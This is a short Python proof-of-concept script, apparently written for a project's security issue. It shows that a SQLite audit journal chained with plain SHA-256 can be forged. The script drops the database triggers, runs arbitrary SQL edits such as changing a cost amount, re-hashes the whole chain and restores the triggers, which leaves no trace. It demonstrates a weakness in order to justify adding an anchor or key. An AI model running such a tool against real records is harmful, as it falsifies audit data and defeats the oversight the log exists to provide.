#!/usr/bin/python3
"""The attacker of issue 11, attack 2: someone with write access to sif.db changes rows and
re-hashes the whole chain the way journal.c does (plain SHA-256), then puts every trigger
back exactly as it was. Without an anchor or a key nothing in the file can tell.

    rechain.py sif.db "UPDATE cost SET amount_ore = 1 WHERE id = 3"
"""
import hashlib
import sqlite3
import sys


def row_hash(con, table, row_id):
    cur = con.execute(f"SELECT * FROM {table} WHERE rowid = ?", (row_id,))
    row = cur.fetchone()
    if row is None:
        return None
    h = hashlib.sha256()
    for (name, *_), v in zip(cur.description, row):
        h.update(name.encode())
        if v is None:
            h.update(b"=N")
        elif isinstance(v, int):
            h.update(b"=I%d" % v)
        else:
            b = v.encode() if isinstance(v, str) else bytes(v)
            h.update(b"=T%d:" % len(b) + b)
        h.update(b"\x1f")
    return h.hexdigest()


def main():
    con = sqlite3.connect(sys.argv[1], isolation_level=None)
    triggers = con.execute("SELECT sql FROM sqlite_master WHERE type = 'trigger'").fetchall()
    names = con.execute("SELECT name FROM sqlite_master WHERE type = 'trigger'").fetchall()
    con.execute("BEGIN")
    for (n,) in names:
        con.execute(f"DROP TRIGGER {n}")
    for sql in sys.argv[2:]:
        for s in sql.split(";"):
            if s.strip():
                con.execute(s)
    prev = "0" * 64
    links = con.execute("SELECT seq, tbl, row_id, action, detail, coalesce(batch_id, 0), user,"
                        " at, row_hash FROM journal ORDER BY seq").fetchall()
    for seq, tbl, row_id, action, detail, batch, user, at, old in links:
        rh = row_hash(con, tbl, row_id) or old
        msg = f"{prev}|{seq}|{tbl}|{row_id}|{action}|{detail or ''}|{batch}|{user}|{at}|{rh}"
        h = hashlib.sha256(msg.encode()).hexdigest()
        con.execute("UPDATE journal SET row_hash = ?, prev_hash = ?, hash = ? WHERE seq = ?",
                    (rh, prev, h, seq))
        prev = h
    for (sql,) in triggers:
        con.execute(sql)
    con.execute("COMMIT")


if __name__ == "__main__":
    main()
